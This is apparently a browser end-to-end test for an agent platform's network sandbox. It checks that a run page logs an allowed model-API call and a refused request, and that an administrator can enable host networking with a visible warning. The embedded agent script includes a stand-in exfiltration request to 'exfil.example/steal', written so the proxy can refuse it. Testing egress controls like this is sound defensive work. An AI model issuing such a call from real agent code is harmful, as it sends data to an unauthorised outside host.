"""In a browser: an administrator lets a project use the host's network and its task page warns;
a command agent's run page shows its network log, the model call allowed and a refused host."""

from __future__ import annotations

import pytest

from marlin.agents import actions
from marlin.agents.jobs import run_turn
from marlin.agents.models import Provider, TurnStatus
from marlin.devtools.model_server import FakeModelServer, Reply

KEY_ENV = "MARLIN_TEST_E2E_ANTHROPIC_KEY"
AGENT = r"""
import json, os, urllib.request, urllib.error
request = urllib.request.Request(os.environ["ANTHROPIC_BASE_URL"] + "/v1/messages",
    data=b'{"model": "m"}', method="POST", headers={"x-api-key": os.environ["ANTHROPIC_API_KEY"]})
text = json.loads(urllib.request.urlopen(request, timeout=20).read())["content"][0]["text"]
open("NOTES.md", "w").write(text + "\n")
try:
    urllib.request.urlopen("http://exfil.example/steal", timeout=10)
except urllib.error.HTTPError as exc:
    print("exfil.example:", exc.code)
"""


@pytest.fixture
def network_setup(transactional_db, make_user):  # type: ignore[no-untyped-def]
    from marlin import paths
    from marlin.demo.load import ensure_demo_repository
    from marlin.demo.sample_repo import head_commit
    from marlin.tasks.actions import do_create_project, do_create_task

    erin = make_user("erin", "admin")
    dave = make_user("dave", "author")
    project = do_create_project(erin, "Network pilot")
    task = do_create_task(
        dave,
        project,
        repository=ensure_demo_repository(),
        base_ref="main",
        base_commit=head_commit(paths.data_dir() / "demo-src" / "ledgerlite"),
        title="Take notes",
        kind="docs",
        prompt="Write NOTES.md.",
        checks=[],
    )
    return erin, dave, project, task


def test_the_run_page_shows_the_network_log_and_the_task_page_warns_of_host_network(
    page, live_server, login, network_setup, monkeypatch
) -> None:
    erin, dave, project, task = network_setup
    monkeypatch.setenv(KEY_ENV, "sk-ant-api03-e2e-real-key")
    with FakeModelServer([Reply(text="notes from the model")]) as server:
        agent = actions.do_create_agent(
            dave,
            name="noter",
            provider=Provider.COMMAND,
            settings={
                "argv": ["python3", "-c", AGENT],
                "timeout": 60,
                "network": "proxy",
                "allow": ["pypi.org:443"],
                "model_apis": [
                    {
                        "kind": "anthropic",
                        "base_url": server.anthropic_base_url,
                        "api_key_env": KEY_ENV,
                    }
                ],
            },
        )
        run = actions.do_start_run(dave, task, agent)
        turn = run.turns.get()
        run_turn.call(turn.pk)
    turn.refresh_from_db()
    assert turn.status == TurnStatus.DONE, turn.error

    login(page, live_server, dave)
    page.goto(f"{live_server.url}/agents/runs/{run.pk}/")
    log = page.locator("table.network-log")
    assert log.is_visible()
    rows = log.locator("tbody tr")
    assert rows.count() == 2
    model_row = log.locator("tr.allowed")
    assert "model" in model_row.inner_text() and "127.0.0.1" in model_row.inner_text()
    refused = log.locator("tr.refused")
    assert "exfil.example" in refused.inner_text()
    assert "not on the run's allow list" in refused.inner_text()

    # The administrator allows the host's network on the project; the task page says so.
    page.context.clear_cookies()
    login(page, live_server, erin)
    page.goto(f"{live_server.url}/tasks/projects/{project.pk}/edit/")
    page.get_by_label("Allow host network").check()
    page.get_by_role("button", name="Save").click()
    page.wait_for_load_state()
    page.goto(f"{live_server.url}/tasks/{task.pk}/")
    assert page.get_by_text("Host network allowed.").is_visible()
    project.refresh_from_db()
    assert project.allow_host_network
